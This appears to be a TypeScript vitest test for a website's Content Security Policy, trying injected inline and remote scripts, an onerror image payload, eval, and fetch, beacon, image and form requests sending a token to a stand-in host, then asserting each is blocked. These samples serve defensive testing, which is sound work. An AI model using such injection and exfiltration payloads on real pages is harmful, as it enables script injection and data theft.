// What script meets that got into a page in spite of everything: the policy of the built site.
import {expect, test} from 'vitest'
import {visit} from './browser.ts'
import {addresses} from './runbook-page.ts'

const way = process.env['PASSERELLE_POLICY'] ?? ''

/** What foreign script may try, and the directive that stops it. */
const attempts: readonly (readonly [string, () => unknown])[] = [
  [
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "foreign"'
      document.body.append(script)
    },
  ],
  [
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.src = 'https://elsewhere.invalid/x.js'
      document.body.append(script)
    },
  ],
  [
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="document.title = \'foreign\'">',
      )
    },
  ],
  // The test's own evaluation is let through, so this one waits until it is over.
  ['script-src', () => setTimeout(() => void globalThis.eval('document.title = "foreign"'))],
  ['connect-src', () => fetch('https://elsewhere.invalid/?token').catch(() => undefined)],
  ['connect-src', () => navigator.sendBeacon('https://elsewhere.invalid/?token')],
  ['img-src', () => (new Image().src = 'https://elsewhere.invalid/?token')],
  [
    'form-action',
    () => {
      const form = document.createElement('form')
      form.action = 'https://elsewhere.invalid/?token'
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'frame-src',
    () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://elsewhere.invalid/">'),
  ],
  ['worker-src', () => new Worker('/x.js')],
  [
    'base-uri',
    () => document.head.insertAdjacentHTML('beforeend', '<base href="https://elsewhere.invalid/">'),
  ],
  [
    'style-src-elem',
    () => document.head.insertAdjacentHTML('beforeend', '<style>body { opacity: 0 }</style>'),
  ],
  [
    'style-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed">Foreign'),
  ],
]

test('foreign script cannot run, load, send or paint; and a violation never passes for a green test', async () => {
  const {page, close} = await visit('/')
  const title = await page.title()
  const stopped: string[] = []
  for (const [, attempt] of attempts) {
    await page.evaluate(() => {
      Reflect.set(
        window,
        'stopped',
        new Promise(resolve => {
          const note = ({effectiveDirective}: SecurityPolicyViolationEvent) => resolve(effectiveDirective)
          document.addEventListener('securitypolicyviolation', note, {once: true})
        }),
      )
    })
    // What it throws is part of being stopped.
    await page.evaluate(attempt).catch(() => undefined)
    stopped.push(await page.evaluate(() => Reflect.get(window, 'stopped') as Promise<string>))
  }
  expect(stopped).toEqual(attempts.map(([directive]) => directive))
  expect(await page.evaluate(() => document.title)).toBe(title)
  // Even where the test calls everything due.
  await expect(close(/./)).rejects.toThrow('violations of the policy')
})

test.each(['/', '/fr-FR/', addresses['fr-FR'], '/nothing-here'])(
  '%s is served with one policy',
  async path => {
    const {page, close} = await visit('/auth/redirect')
    const answer = await page.goto(path)
    const header = answer?.headers()['content-security-policy']
    const meta = page.locator('head > :first-child[http-equiv="Content-Security-Policy"]')
    const content = way === 'header' ? undefined : await meta.getAttribute('content')
    if (way === 'header') expect(await meta.count()).toBe(0)
    else if (way === 'meta') expect(header).toBeUndefined()
    else expect(header).toBe(`${String(content)}; frame-ancestors 'none'`)
    const policy = header ?? content
    expect(policy?.match(/script-src [^;]+/)?.[0]).toMatch(/^script-src 'self' 'sha256-[^']{44}'$/)
    expect(policy).toContain("; connect-src 'self';")
    await close(/status of 404/)
  },
)
